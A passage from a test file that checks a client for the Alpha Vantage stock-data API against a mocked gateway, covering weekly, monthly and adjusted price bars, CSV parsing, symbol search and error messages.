      { timestamp: '2022-07-27', open: '128.0300', high: '129.0100', low: '127.3100', close: '128.0800', volume: '3544716' },
    ]);
    upstream.set('alphavantage', 'WK', { kind: 'bars', bars: TWO_WEEKS });
    expect(await av.data.weekly('WK')).toStrictEqual(WEEKLY);
    expect(await av.data.monthly('WK')).toStrictEqual(MONTHLY);
    // The client reads the line end after the last row as one row more, of empty fields, as it does Alpha Vantage's.
    const weeks = await av.data.weekly<Record<string, string>[]>('WK', 'compact', 'csv');
    expect(weeks.slice(0, 2)).toStrictEqual([
      { timestamp: '2022-07-06', open: '11.5000', high: '15.0000', low: '11.0000', close: '14.0000', volume: '900' },
      { timestamp: '2022-07-01', open: '10.0000', high: '13.0000', low: '9.0000', close: '11.5000', volume: '600' },
    ]);
    // Alpha Vantage's own older weeks and months through the gateway, as the client reads them.
    expect(await av.data.monthly('OLD')).toStrictEqual(OLD_MONTHLY);
    const oldWeeks = await av.data.weekly_adjusted<Record<string, string>[]>('OLD', 'compact', 'csv');
    expect(oldWeeks.slice(0, 3)).toStrictEqual([
      { timestamp: '2022-07-06', open: '11.5000', high: '15.0000', low: '11.0000', close: '14.0000', adjusted_close: '14.0000', volume: '900', dividend_amount: '0.0000' },
      { timestamp: '2022-07-01', open: '10.5000', high: '13.0000', low: '9.0000', close: '11.5000', adjusted_close: '11.0000', volume: '1000', dividend_amount: '0.0000' },
      { timestamp: '2022-06-24', open: '10.0000', high: '11.0000', low: '9.5000', close: '10.5000', adjusted_close: '10.0435', volume: '800', dividend_amount: '0.2500' },
    ]);
    const { bestMatches } = (await av.data.search('intern')) as { bestMatches: Record<string, string>[] };
    expect(bestMatches.map((match) => [match['1. symbol'], match['2. name']])).toEqual([['IBM', 'International Business Machines Corp']]);
    // The client throws a string on any body without data, quoting it.
    await expect(av.data.daily('NOPE')).rejects.toBe(`An AlphaVantage error occurred. ${JSON.stringify(invalidCall('TIME_SERIES_DAILY'))}`);
  });
});
